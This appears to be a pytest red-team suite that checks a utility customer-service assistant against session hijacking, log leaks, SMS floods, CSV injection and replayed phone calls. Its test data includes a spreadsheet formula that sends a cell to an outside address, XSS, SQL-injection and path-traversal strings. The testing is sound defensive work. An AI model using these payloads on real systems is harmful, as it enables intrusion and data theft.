"""Red team, issues 13-15 (kiosk screen and card, pay fresh links, reminder short links and pages,
quality review with the reviewer role, forget / handoff status, admin preview): each test is an
attack over real HTTP against a running server that should have been refused or harmless.

A failing test here is an open finding (see /tmp/team/report_redteam.md); none is marked xfail.
"""

from __future__ import annotations

import csv
import io
from contextlib import closing

import httpx
import pytest
from sqlmodel import func, select

from assistant.dialogue import Channel
from knowledge_base.db import session
from knowledge_base.models import PayLinkRequest, ReminderMessage, utc_now
from tests.quality.support import admin_client, reviewer_client
from tests.security.test_hygiene import access_log  # noqa: F401  (a fixture, found by name)
from tests.server_fixtures import (  # noqa: F401  (pytest finds the fixtures by name)
    ACCOUNTS,
    LiveServer,
    live_server,
    login,
    server_settings,
)

DEMO_ACCOUNT = "3201000001"  # 张建华, 13800000001, an unpaid bill of 128.50 元


def _say(http: httpx.Client, text: str, session_id: str | None = None, channel: str = "kiosk") -> dict:  # type: ignore[type-arg]
    response = http.post("/api/converse", json={"text": text, "session_id": session_id, "channel": channel})
    assert response.status_code == 200, response.text
    return response.json()


def _card_verified_conversation(server: LiveServer) -> str:
    """A hall customer whose card was read (as /api/kiosk/card does after checking the signature), at the
    kiosk these tests' clients stand at (a verified conversation answers only where it was verified)."""
    return server.app.state.services.conversations.present_card(None, Channel.KIOSK, DEMO_ACCOUNT, "127.0.0.1")


# --- Reviewer: masked data only; never a customer's live conversation ---------------------


def test_reviewer_cannot_take_over_a_verified_customers_conversation(live_server: LiveServer) -> None:
    """The quality sample hands reviewers the session ids of today's live conversations; a session id
    is the bearer credential of a (possibly card-verified) conversation for a day. A reviewer, who is
    meant to see phones and names masked, continues the customer's conversation and reads the bill."""
    session_id = _card_verified_conversation(live_server)
    with httpx.Client(base_url=live_server.url, timeout=30) as customer:
        first = _say(customer, "查一下我的电费", session_id)
        assert "128" in first["text"], first["text"]  # the verified customer's own answer
    with closing(reviewer_client(live_server)) as reviewer:
        drawn = reviewer.post("/api/admin/quality/samples/draw")
        assert drawn.status_code == 200, drawn.text
        leaked = [s.get("session_id") for s in drawn.json() if s.get("session_id")]
        exported = reviewer.get("/api/admin/quality/export/samples.csv").text
    stolen = leaked or [row[1] for row in list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))[1:]]
    with httpx.Client(base_url=live_server.url, timeout=30) as attacker:  # anywhere, anonymous
        for candidate in stolen:
            reply = _say(attacker, "查一下我的电费", candidate)
            assert "128" not in reply["text"] and "张" not in reply["text"], (
                f"a reviewer's copy of session id {candidate} continued the verified conversation: {reply['text']}")


# --- Privacy: what a reviewer sees of phone numbers -----------------------------------------


@pytest.mark.parametrize("said", ["我的手机号是+8613912345678，帮我看看", "手机号８６１３９１２３４５６７８，没收到短信",
                                  "我的电话是１３９１２３４５６７８"])
def test_reviewer_sees_a_phone_number_with_country_code_or_full_width_digits_masked(
        live_server: LiveServer, said: str) -> None:
    with httpx.Client(base_url=live_server.url, timeout=30) as customer:
        _say(customer, said, channel="web")
    with closing(reviewer_client(live_server)) as reviewer:
        samples = reviewer.post("/api/admin/quality/samples/draw").json()
        assert samples, "the conversation is sampled"
        page = reviewer.get(f"/admin/quality/samples/{samples[0]['id']}").text
        groups = reviewer.get("/api/admin/quality/groups", params={"days": 1, "limit": 200}).text
    for shown, where in ((page, "sample page"), (groups, "unanswered groups")):
        for digits in ("13912345678", "１３９１２３４５６７８"):
            assert digits not in shown, f"{where} shows the full phone number {digits}"


def test_reviewer_sees_the_holders_name_masked_in_unanswered_groups(live_server: LiveServer) -> None:
    """The sample page masks the account holder's name (张*华); the unanswered groups (page, API, CSV,
    daily report) show what the verified customer said with the name in full."""
    session_id = _card_verified_conversation(live_server)
    with httpx.Client(base_url=live_server.url, timeout=30) as customer:
        said = [_say(customer, "张建华阿巴阿巴", session_id)["intent"] for _ in range(2)]
    with closing(reviewer_client(live_server)) as reviewer:
        shown = {"groups API": reviewer.get("/api/admin/quality/groups", params={"days": 1, "limit": 200}).text,
                 "groups page": reviewer.get("/admin/quality/groups", params={"days": 7}).text,
                 "groups CSV": reviewer.get("/api/admin/quality/export/groups.csv", params={"days": 1}).text}
    assert "阿巴阿巴" in shown["groups API"], (said, shown["groups API"])
    for where, text in shown.items():
        assert "张建华" not in text, f"{where} shows the holder's full name"


def test_staff_reminder_page_shows_the_family_phone_masked(live_server: LiveServer) -> None:
    """Any staff member who types a 户号 reads the family member's full mobile number (the audit log of
    the same change keeps it masked)."""
    from assistant.reminders import preferences

    with session(live_server.app.state.engine) as db:
        preferences.save(db, DEMO_ACCOUNT, preferences.Preferences(active=True, channels=("family",), preferred_minute=540,
                                                                   quiet_start_minute=1260, quiet_end_minute=480,
                                                                   family_phone="13912345678"),
                         utc_now(), "test", "staff")
        db.commit()
    staff = httpx.Client(base_url=live_server.url, timeout=30)
    with closing(staff):
        assert login(staff, "staff1", ACCOUNTS["staff1"][1]).status_code == 303
        page = staff.get(f"/staff/reminders/{DEMO_ACCOUNT}").text
    assert "13912345678" not in page, "the staff page shows the family phone in full"


# --- Secrets in logs ------------------------------------------------------------------------


def test_handoff_status_path_does_not_put_the_session_id_in_the_access_log(
        live_server: LiveServer, access_log: io.StringIO) -> None:
    """The kiosk polls /api/converse/<session>/handoff every 3 s; the session id is the conversation's
    bearer credential (verified by card or code for a day), so it must not land in the access log,
    just as /pay/<token> does not."""
    session_id = _card_verified_conversation(live_server)
    with httpx.Client(base_url=live_server.url, timeout=30) as kiosk:
        assert kiosk.post("/api/converse/handoff", json={"session_id": session_id}).status_code == 200
    written = access_log.getvalue()
    assert "/handoff" in written, written
    assert session_id not in written, f"session id in the access log: {written}"


def test_reminder_short_link_code_is_not_in_the_access_log(live_server: LiveServer,
                                                           access_log: io.StringIO) -> None:
    """/r/<code> opens the account's payment page for what is owed: a bearer link like /pay/<token>."""
    from assistant.payments import load_or_create_secret
    from assistant.reminders.links import link_code

    engine = live_server.app.state.engine
    with session(engine) as db:
        message = ReminderMessage(dedup_key=f"{DEMO_ACCOUNT}|due_soon|x", account_number=DEMO_ACCOUNT,
                                  rule_id="due_soon", period="x", run_date=utc_now().date(), channel="sms",
                                  amount_fen=12850)
        db.add(message)
        db.commit()
        message_id = message.id
    assert message_id is not None
    code = link_code(load_or_create_secret(live_server.app.state.settings.data_dir, "payment-links"), message_id)
    with httpx.Client(base_url=live_server.url, timeout=30) as customer:
        opened = customer.get(f"/r/{code}", follow_redirects=False)
    assert opened.status_code == 303, opened.text
    written = access_log.getvalue()
    assert "/r/" in written, written
    assert code not in written, f"reminder link code in the access log: {written}"


# --- Floods ---------------------------------------------------------------------------------


def test_refused_fresh_link_asks_do_not_grow_the_table_without_bound(live_server: LiveServer) -> None:
    """Past 5 asks an hour the address is refused (429), but every refused ask still writes a
    PayLinkRequest row: one address holding one old link can grow the table at request rate."""
    from assistant.pay_pages import FRESH_PER_CLIENT_HOUR

    link = live_server.app.state.services.payments.create_link(DEMO_ACCOUNT)
    with httpx.Client(base_url=live_server.url, timeout=30) as relative:
        statuses = [relative.post(f"/pay/{link.token}/fresh").status_code for _ in range(40)]
    assert statuses[-1] == 429, statuses
    with session(live_server.app.state.engine) as db:
        rows = db.exec(select(func.count()).select_from(PayLinkRequest)).one()
    assert rows <= FRESH_PER_CLIENT_HOUR + 1, f"{rows} rows written for 40 asks from one address"


def test_daily_report_pdf_prints_one_at_a_time(live_server: LiveServer, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every GET /admin/quality/report.pdf starts its own Chromium (hundreds of MB) in the thread pool
    (40 threads), with no bound: a reviewer's script, or a double-clicking one, runs the 2-core machine
    out of memory. Chromium is stubbed here by a sleep that counts how many print at once."""
    import threading
    import time
    from concurrent.futures import ThreadPoolExecutor

    import server.routes.quality as quality_routes

    lock, running, peak = threading.Lock(), [0], [0]

    def fake_print(html: str, out, chromium=None):  # type: ignore[no-untyped-def]
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
        time.sleep(0.5)
        out.write_bytes(b"%PDF-1.4 stub")
        with lock:
            running[0] -= 1
        return out

    monkeypatch.setattr(quality_routes, "print_pdf", fake_print)
    with closing(reviewer_client(live_server)) as reviewer:
        with ThreadPoolExecutor(8) as pool:
            statuses = list(pool.map(lambda _: reviewer.get("/admin/quality/report.pdf").status_code, range(8)))
    assert all(code in (200, 429, 503) for code in statuses), statuses
    assert peak[0] <= 2, f"{peak[0]} Chromium prints at once"


def test_anonymous_payment_link_sms_to_any_number_is_bounded(live_server: LiveServer) -> None:
    """The cross-border flow (issue 13) is open to whoever names a 户号: say it and any mobile, say 对,
    and 小电 sends that number an SMS with the holder's masked name, the amount and a payment link.
    The pay page's own "fresh link" is bounded (5 an hour per address, 3 a day per account); this path
    is not: one anonymous address makes the utility text strangers' phones without end."""
    from knowledge_base.models import SmsMessage

    with httpx.Client(base_url=live_server.url, timeout=30) as stranger:
        for index in range(10):
            first = _say(stranger, "人在国外，家里的电费咋交", channel="web")
            sid = first["session_id"]
            _say(stranger, f"户号是{DEMO_ACCOUNT}", sid, channel="web")
            _say(stranger, f"139{index:08d}", sid, channel="web")
            _say(stranger, "对", sid, channel="web")
    with session(live_server.app.state.engine) as db:
        sent = db.exec(select(SmsMessage.phone).where(SmsMessage.kind == "payment_link")).all()
    assert sent, "the flow sends SMS at all"
    assert len(sent) <= 5, f"{len(sent)} payment-link SMS from one anonymous address to {len(set(sent))} numbers"


# --- CSV exports opened in Excel --------------------------------------------------------------


def test_rectification_export_neutralises_spreadsheet_formulas(live_server: LiveServer) -> None:
    """A reviewer's rectification title is exported as typed; a cell starting with = runs as a
    formula in the admin's Excel (CSV injection)."""
    with closing(reviewer_client(live_server)) as reviewer:
        made = reviewer.post("/api/admin/quality/rectifications", json={
            "title": '=HYPERLINK("http://203.0.113.9/x?"&A1,"点这里")', "category": "knowledge",
            "owner": "=1+2", "deadline": "2026-12-31"})
        assert made.status_code in (201, 422), made.text
        if made.status_code == 422:
            pytest.skip(f"refused: {made.text}")
    with closing(admin_client(live_server)) as admin:
        exported = admin.get("/api/admin/quality/export/rectifications.csv").text
    cells = [cell for row in list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))[1:] for cell in row]
    assert cells, exported
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells if cell), exported


# --- The phone line: a caller number is vouched for once ----------------------------------


def test_a_finished_calls_uuid_does_not_verify_a_second_socket(live_server: LiveServer) -> None:
    """The PBX registers a call's caller number; the gateway's connect_call hands that number (which
    verifies the caller) to whichever socket brings the UUID, again and again, even after the call
    ended. A UUID is no secret (CDRs, Asterisk logs, this service's access log of
    GET /api/phone/calls/<uuid>): anyone who reaches the AudioSocket port replays it as that caller."""
    import uuid as uuid_module

    from assistant.phone.calls import CallOutcome, connect_call, end_call
    from assistant.phone.line import pbx_token

    call = str(uuid_module.uuid4())
    with httpx.Client(base_url=live_server.url, timeout=30) as pbx:
        registered = pbx.post("/api/phone/calls", headers={"X-PBX-Token": pbx_token(live_server.app.state.settings)},
                              json={"uuid": call, "caller": "13800000001"})
    assert registered.status_code == 200, registered.text
    engine = live_server.app.state.engine
    assert connect_call(engine, call).caller == "13800000001"  # the real call
    end_call(engine, call, CallOutcome.HANGUP, "caller_hangup")
    again = connect_call(engine, call)  # a second socket with the same UUID, after the hangup
    assert again.caller == "", "a replayed UUID is served as the verified caller 13800000001"


# --- What held (kept as regression tests) ----------------------------------------------------


def test_reviewer_cannot_reach_admin_only_writes(live_server: LiveServer) -> None:
    with closing(reviewer_client(live_server)) as reviewer:
        token = reviewer.headers["X-CSRF-Token"]
        assert reviewer.post("/api/admin/quality/groups/add-examples",
                             json={"intent": "query_bill", "examples": ["我家这个月电费"]}).status_code == 403
        assert reviewer.post("/admin/quality/groups/new-intent", data={
            "csrf_token": token, "id": "evil", "title": "x", "examples": "y", "answer_display": "z"}).status_code == 403
        assert reviewer.post("/api/admin/try", json={"text": "电费多少"}).status_code == 403
        assert reviewer.get("/admin/reminders").status_code == 403
        assert reviewer.get(f"/staff/reminders/{DEMO_ACCOUNT}").status_code == 403
        assert reviewer.post(f"/staff/reminders/{DEMO_ACCOUNT}", data={"csrf_token": token}).status_code == 403


def test_quality_and_reminder_forms_need_the_csrf_token(live_server: LiveServer) -> None:
    with closing(admin_client(live_server)) as admin:
        del admin.headers["X-CSRF-Token"]
        for path, form in (("/admin/quality/rectifications", {"title": "t", "category": "knowledge", "owner": "o",
                                                               "deadline": "2026-12-31"}),
                           ("/admin/quality/samples/1/rating", {"attitude": "1"}),
                           ("/admin/reminders/rules/due_soon", {"title": "x"}),
                           (f"/staff/reminders/{DEMO_ACCOUNT}", {"active": "on"})):
            answer = admin.post(path, data=form, follow_redirects=False)
            assert answer.status_code == 403, (path, answer.status_code)


def test_rectification_text_is_escaped_on_the_pages_and_the_report(live_server: LiveServer) -> None:
    with closing(reviewer_client(live_server)) as reviewer:
        assert reviewer.post("/api/admin/quality/rectifications", json={
            "title": "<script>alert(1)</script>", "category": "knowledge", "owner": "<img src=x onerror=alert(1)>",
            "deadline": "2026-12-31"}).status_code == 201
        for path in ("/admin/quality/rectifications", "/admin/quality/report"):
            page = reviewer.get(path).text
            assert "<script>alert(1)" not in page and "<img src=x" not in page, path


def test_forget_and_handoff_status_with_guessed_ids_touch_nothing(live_server: LiveServer) -> None:
    session_id = _card_verified_conversation(live_server)
    with httpx.Client(base_url=live_server.url, timeout=30) as stranger:
        for guess in ("1", "test-1", session_id[:-1], "' OR 1=1 --", "x" * 64):
            assert stranger.post("/api/converse/forget", json={"session_id": guess}).status_code == 204
            assert stranger.post("/api/converse/handoff", json={"session_id": guess}).json() == {
                "status": None, "priority": None}
        assert stranger.post("/api/converse/handoff", json={"session_id": "x" * 65}).status_code == 404
        reply = _say(stranger, "查一下我的电费", session_id)  # the real customer's conversation is still there
    assert "128" in reply["text"]


def test_kiosk_screen_and_card_refuse_without_the_devices_key(live_server: LiveServer) -> None:
    with httpx.Client(base_url=live_server.url, timeout=30) as stranger:
        assert stranger.get("/api/kiosk/screen", params={"device": "jd-01"}).status_code == 401
        assert stranger.get("/api/kiosk/screen", params={"device": "jd-01"},
                            headers={"X-Kiosk-Screen-Key": "A" * 86}).status_code == 401
        assert stranger.post("/api/kiosk/screen", json={"device": "jd-01", "state": {"identified": "x"}},
                             headers={"X-Kiosk-Screen-Key": "A" * 86}).status_code == 401
        card = {"device": "jd-01", "account": DEMO_ACCOUNT, "issued_at": 0, "nonce": "n" * 16, "signature": "A" * 86}
        assert stranger.post("/api/kiosk/card", json={"card": card}).status_code == 403


def test_reminder_short_link_codes_cannot_be_guessed(live_server: LiveServer) -> None:
    with httpx.Client(base_url=live_server.url, timeout=30) as stranger:
        for code in ("1aaaaaaaa", "1" + "a" * 8, "zz" + "b" * 8, "../../etc", "1" * 60):
            assert stranger.get(f"/r/{code}", follow_redirects=False).status_code == 404, code


def test_phone_api_needs_the_pbx_token(live_server: LiveServer) -> None:
    with httpx.Client(base_url=live_server.url, timeout=30) as stranger:
        claim = {"uuid": "8f14e45f-ceea-467f-a9f0-0b1e1d2c3a4b", "caller": "13800000001"}
        assert stranger.post("/api/phone/calls", json=claim).status_code == 403
        assert stranger.post("/api/phone/calls", json={**claim, "token": "guess"}).status_code == 403
        assert stranger.post("/api/phone/calls", content="uuid=8f14e45f-ceea-467f-a9f0-0b1e1d2c3a4b&caller=1&token=",
                             headers={"content-type": "application/x-www-form-urlencoded"}).status_code == 403
        assert stranger.get(f"/api/phone/calls/{claim['uuid']}").status_code == 403


def test_reminders_by_voice_need_a_verified_customer_not_a_said_account_number(live_server: LiveServer) -> None:
    with httpx.Client(base_url=live_server.url, timeout=30) as stranger:
        first = _say(stranger, f"我的户号是{DEMO_ACCOUNT}", channel="web")
        asked = _say(stranger, "每天下午三点提醒我交电费，也发给我儿子13912345678", first["session_id"], channel="web")
        confirmed = _say(stranger, "对", asked["session_id"], channel="web")
    from knowledge_base.models import ReminderSubscription

    with session(live_server.app.state.engine) as db:
        row = db.get(ReminderSubscription, DEMO_ACCOUNT)
    assert row is None or row.family_phone != "13912345678", (asked["text"], confirmed["text"])
    assert "已经给户号" not in asked["text"] + confirmed["text"]
